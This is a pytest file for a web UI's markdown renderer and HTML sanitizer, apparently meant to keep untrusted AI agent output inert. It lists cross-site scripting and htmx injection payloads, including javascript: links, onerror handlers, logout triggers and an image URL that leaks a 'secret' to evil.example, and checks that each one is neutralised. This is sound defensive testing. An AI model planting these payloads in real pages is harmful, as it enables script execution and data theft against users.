"""Markdown of untrusted agent output: rendered, highlighted, and inert after sanitizing."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.webui import markdown, sanitize
from services.webui.markdown import pygments_css, render_markdown
from services.webui.sanitize import ALLOWED_TAGS, sanitize_html

# Tags our own post-processing adds after sanitizing (code block chrome).
CHROME_TAGS = {"div", "button"}


class Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def parse(html: str) -> Collector:
    collector = Collector()
    collector.feed(str(html))
    collector.close()
    return collector


def assert_inert(html: str) -> Collector:
    """Only allow-listed tags; no handler, style, hx-*/data-* attribute; only safe URLs."""
    tree = parse(html)
    for tag, attrs in tree.elements:
        assert tag in ALLOWED_TAGS | CHROME_TAGS, f"unexpected <{tag}> in {html}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"handler {name} in {html}"
            assert name != "style", html
            assert not name.startswith(("hx-", "data-")), f"{name} in {html}"
            assert "<" not in (value or "") and ">" not in (value or ""), f"markup in {name}={value!r}"
        if "href" in attrs:
            assert attrs["href"].split(":", 1)[0].lower() in ("http", "https", "mailto"), attrs["href"]
    return tree


PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)"><circle r="10" onclick="alert(2)"/></svg>',
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div data-hx-get="/logout" data-hx-trigger="load">x</div>',
    '<b hx-swap-oob="true" id="composer-actions">pwned</b>',
    '<hx-partial hx-target="#main">pwned</hx-partial>',
    "[t](https://ok.example \"<hx-partial hx-target='#main'>\")",
    "```<hx-partial\ncode\n```",
    "<iframe src=https://evil.example></iframe>",
    '<style>body{display:none}</style><p style="color:red">x</p>',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x](javascript:alert(1))",
    "<details open ontoggle=alert(1)>x</details>",
    "<!-- <script>alert(1)</script> -->",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_render_inert(payload):
    html = render_markdown(payload)
    assert_inert(html)
    lowered = str(html).lower()
    assert "<script" not in lowered and "<img" not in lowered and "<svg" not in lowered
    assert "<iframe" not in lowered and "<style" not in lowered and "<hx-" not in lowered


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "[t](https://a.example ",
                '"',
                "'",
                "<",
                ">",
                "&lt;",
                "&#60;",
                "&GT;",
                "`",
                "```py\n",
                "\n",
                "x",
                "**",
                "|",
                "&",
                "<hx-",
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_skipping_the_attribute_filter_never_changes_what_survives(text):
    # The unfiltered cleaner is used only where markdown-it's output cannot put an angle bracket
    # into an attribute value: on any markdown, both passes must agree.
    for payload in (text, *PAYLOADS):
        rendered = markdown._md.render(payload)
        assert sanitize.sanitize_rendered(rendered) == sanitize_html(rendered)


def test_raw_html_is_shown_as_text_not_markup():
    html = render_markdown("<script>alert(1)</script> and <b>bold</b>")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html


def test_javascript_links_lose_their_link():
    for text in ("[x](javascript:alert(1))", "<javascript:alert(1)>", "[x](JAVASCRIPT:alert(1))"):
        tree = assert_inert(render_markdown(text))
        assert not any("href" in attrs for _, attrs in tree.elements)


def test_links_open_safely_and_autolinks_work():
    tree = assert_inert(
        render_markdown("See <https://example.com/a?b=1> and [docs](https://docs.example) or [me](mailto:a@b.c)")
    )
    links = [attrs for tag, attrs in tree.elements if tag == "a"]
    assert [link["href"] for link in links] == ["https://example.com/a?b=1", "https://docs.example", "mailto:a@b.c"]
    for link in links:
        assert link["rel"] == "noopener noreferrer nofollow" and link["target"] == "_blank"


def test_relative_links_are_dropped():
    tree = assert_inert(render_markdown("[out](/logout) [api](../api/me)"))
    assert not any("href" in attrs for _, attrs in tree.elements)


def test_images_become_links_never_img():
    tree = assert_inert(render_markdown("![chart](https://img.example/c.png)"))
    assert (
        "a",
        {"href": "https://img.example/c.png", "target": "_blank", "rel": "noopener noreferrer nofollow"},
    ) in tree.elements
    assert "image: chart" in "".join(tree.text)


def test_attribute_values_carry_no_markup_for_htmx_to_rewrite():
    # htmx rewrites "<hx-…" in the raw response text before parsing; a title must not carry one.
    html = render_markdown("[t](https://ok.example \"<hx-partial hx-target='#main'>x</hx-partial>\")")
    assert "<hx-" not in html and "</hx-" not in html
    assert_inert(html)


def test_tables_use_alignment_classes_not_style():
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    tree = assert_inert(html)
    classes = [attrs.get("class") for tag, attrs in tree.elements if tag in ("th", "td")]
    assert classes[:3] == ["align-left", "align-center", "align-right"]
    assert "style=" not in html


def test_headings_lists_and_emphasis():
    tree = assert_inert(render_markdown("# Title\n\n- one\n- **two**\n\n1. first\n\n> quote\n\n~~gone~~"))
    tags = [tag for tag, _ in tree.elements]
    for tag in ("h1", "ul", "li", "strong", "ol", "blockquote", "s"):
        assert tag in tags


def test_code_blocks_are_highlighted_with_classes_and_get_a_copy_button():
    html = render_markdown("```python\ndef f():\n    return '<b>'\n```")
    tree = assert_inert(html)
    assert '<span class="k">def</span>' in html  # pygments token classes, no inline style
    assert "style=" not in html
    assert "&lt;b&gt;" in html
    buttons = [attrs for tag, attrs in tree.elements if tag == "button"]
    assert buttons == [{"type": "button", "class": "copy-code", "aria-label": "Copy code"}]
    assert '<span class="code-lang">python</span>' in html


def test_unknown_language_and_indented_code_are_plain_and_escaped():
    html = render_markdown("```nosuchlang\n<script>x</script>\n```\n\n    <img src=x>\n")
    assert_inert(html)
    assert html.count('class="copy-code"') == 2
    assert "&lt;script&gt;x&lt;/script&gt;" in html and "&lt;img src=x&gt;" in html


def test_a_language_label_cannot_inject_markup():
    html = render_markdown('```"><img/src=x/onerror=alert(1)>\ncode\n```')
    assert_inert(html)
    assert "<img" not in html


def test_partial_markdown_while_streaming_renders():
    html = render_markdown("Here:\n\n```python\ndef half(")
    assert_inert(html)
    assert "half" in html


def test_empty_text_renders_nothing():
    assert render_markdown("") == "" and render_markdown(None) == ""


def test_sanitizer_on_raw_html_defence_in_depth():
    raw = (
        '<p onclick="x()" style="color:red" data-x="1" hx-get="/a" data-hx-post="/b" class="evil">'
        '<a href="javascript:alert(1)">j</a><a href="/rel">r</a><a href="https://ok.example">ok</a>'
        "<img src=x onerror=alert(1)><svg onload=alert(1)></svg><script>alert(1)</script>"
        '<span class="k evil">k</span></p>'
    )
    clean = sanitize_html(raw)
    tree = assert_inert(clean)
    assert "alert" not in clean  # script content removed, handlers gone
    spans = [attrs for tag, attrs in tree.elements if tag == "span"]
    assert spans == [{"class": "k"}]
    assert [attrs.get("href") for tag, attrs in tree.elements if tag == "a"] == [None, None, "https://ok.example"]


def test_pygments_css_has_light_and_dark_and_no_backgrounds_of_its_own():
    css = pygments_css()
    assert ".md pre .k" in css
    assert "@media (prefers-color-scheme: dark)" in css
    assert css.count(".md pre .k ") == 2
